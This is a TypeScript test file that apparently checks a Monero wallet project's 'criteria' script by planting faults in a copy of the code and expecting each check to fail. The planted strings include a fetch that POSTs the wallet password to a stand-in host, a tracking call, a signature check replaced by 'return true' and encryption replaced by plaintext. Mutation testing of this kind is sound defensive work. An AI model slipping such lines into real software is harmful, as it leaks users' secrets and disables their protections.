/** Each line of `npm run criteria` fails when the defence that it shows is taken out of a copy of the project. */
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { copyTree } from '../../../scripts/tools/checks/tree-copy.mjs';
import { projectRoot } from '../../../scripts/tools/setup/setup.mjs';

/** A line, the file, what is replaced there, and what makes the line fail. */
const PLANTED = [
  [
    'personal-data',
    'src/rpc/methods/create_wallet.ts',
    'checkSpelling(session, filename);',
    "await fetch('https://accounts.example/').catch(() => {}); checkSpelling(session, filename);",
  ],
  [
    'non-custodial',
    'src/rpc/methods/create_wallet.ts',
    'await session.make({',
    "await fetch('https://keeper.example/', { method: 'POST', body: password }).catch(() => {}); await session.make({",
  ],
  [
    'updates',
    'src/transport/service-worker/stored-versions.ts',
    'return version !== undefined && (await caches.has(cacheOf(version))) ? version : own;',
    'return own ?? version;',
  ],
  ['open-source', 'package.json', '"license": "MIT"', '"license": "UNLICENSED"'],
  [
    'tracking',
    'src/ui/app/mount.ts',
    'export function mountPage(',
    "export const count = () => fetch('https://count.visitors.org/');\nexport function mountPage(",
  ],
  ['transactions', 'src/wallet/decoys/gamma.ts', 'const SHAPE = 19.28;', 'const SHAPE = 17;'],
  [
    'signatures',
    'src/release/proof.ts',
    'return ed25519.verify(signature, message, key, { zip215: false });',
    'return true;',
  ],
  ['reproducible', '.github/workflows/release.yml', 'diff -r', 'ls'],
  ['socks5', 'src/nodejs/node-fetch.ts', 'if (proxy) agents.http.createConnection = plainly(proxy);', ''],
  [
    'passcode',
    'src/store/crypt.ts',
    'const sealed = await crypto.subtle.encrypt(gcm(nonce, aadBytes(aad)), key, own(plain));',
    'const sealed = own(concat(plain, new Uint8Array(16)));',
  ],
] as const;

const criteria = (root: string, line: string) =>
  spawnSync(
    process.execPath,
    [
      join(root, 'scripts/run.mjs'),
      join(root, 'scripts/tools/checks/criteria.ts'),
      '--quick',
      '--line',
      line,
    ],
    { cwd: root, encoding: 'utf8' },
  );

describe('the criteria of getmonero.org', () => {
  const root = copyTree(projectRoot);
  it.each(PLANTED)('fail in the line %s without its defence', (line, file, find, put) => {
    const path = join(root, file);
    const text = readFileSync(path, 'utf8');
    expect(text).toContain(find);
    writeFileSync(
      path,
      text.replaceAll(find, () => put),
    );
    const { status, stdout, stderr } = criteria(root, line);
    writeFileSync(path, text);
    expect(`${stdout}${stderr}`).toMatch(/^NO /m);
    expect(status).toBe(1);
  });
});
